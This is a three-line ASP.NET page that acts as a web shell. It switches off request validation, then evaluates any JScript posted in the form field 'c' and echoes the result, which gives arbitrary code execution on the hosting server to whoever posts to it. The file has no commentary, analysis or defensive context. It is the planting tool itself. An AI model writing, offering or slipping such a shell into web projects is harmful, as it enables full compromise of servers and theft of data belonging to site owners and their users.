<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Assembly Name="Microsoft.JScript" %>
<% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request.Form["c"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>
